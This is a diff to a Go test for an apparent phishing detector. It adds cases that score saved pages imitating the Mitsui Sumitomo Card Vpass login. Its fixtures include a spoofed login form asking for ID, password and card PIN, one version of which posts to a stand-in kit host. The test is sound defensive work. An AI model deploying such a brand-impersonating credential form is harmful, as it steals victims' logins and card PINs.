@@ -805,21 +805,25 @@ func TestCredentialFormSavedPage(t *testing.T) {
 
 // TestCredentialFormSavedPageSendsOff: a saved page presenting a brand is
 // medium when its origin is unknown, but high when its form sends what is
-// typed to a domain none of the brand's, wherever it was shown; a form
+// typed to a domain none of the brand's, wherever it was shown, or when it
+// asks for what no shop asks for together (a card's PIN); a plain login
 // sending to the brand's own domain or a relative one stays medium.
 func TestCredentialFormSavedPageSendsOff(t *testing.T) {
-	form := func(action string) string {
-		return `<title>Vpassログイン|三井住友カード</title><h1>三井住友カード</h1><form method="post" action="` + action + `"><label>ID<input name="id"></label><label>パスワード<input type="password" name="pw"></label><label>カード暗証番号<input type="password" name="pin"></label></form>`
+	login := `<label>ID<input name="id"></label><label>パスワード<input type="password" name="pw"></label>`
+	pin := `<label>カード暗証番号<input type="password" name="pin"></label>`
+	form := func(action, fields string) string {
+		return `<title>Vpassログイン|三井住友カード</title><h1>三井住友カード</h1><form method="post" action="` + action + `">` + fields + `</form>`
 	}
 	for _, c := range []struct {
-		name, action, sendsTo string
-		points                int
+		name, action, fields, sendsTo string
+		points                        int
 	}{
-		{"a kit's absolute action on its own host", "https://vpass-secure-check.xyz/smbc/post.php", "vpass-secure-check.xyz", 50},
-		{"an action on the brand's own domain", "https://www.vpass.ne.jp/login.do", "", 25},
-		{"a relative action", "post.php", "", 25},
+		{"a kit's absolute action on its own host", "https://vpass-secure-check.xyz/smbc/post.php", login, "vpass-secure-check.xyz", 50},
+		{"an action on the brand's own domain", "https://www.vpass.ne.jp/login.do", login, "", 25},
+		{"a relative action", "post.php", login, "", 25},
+		{"a relative action asking for the card's PIN too", "post.php", login + pin, "", 50},
 	} {
-		site := phSite(phHTML("file:///evidence/login.html", form(c.action)))
+		site := phSite(phHTML("file:///evidence/login.html", form(c.action, c.fields)))
 		s, ok := phFired(site)["phishing-credential-form"]
 		if !ok || s.Points != c.points || c.sendsTo != "" && (!strings.Contains(s.Evidence, c.sendsTo) || !strings.Contains(s.Message, c.sendsTo)) {
 			t.Errorf("%s: fired %v, %d points, evidence %q, message %q; want %d points naming %q", c.name, ok, s.Points, s.Evidence, s.Message, c.points, c.sendsTo)
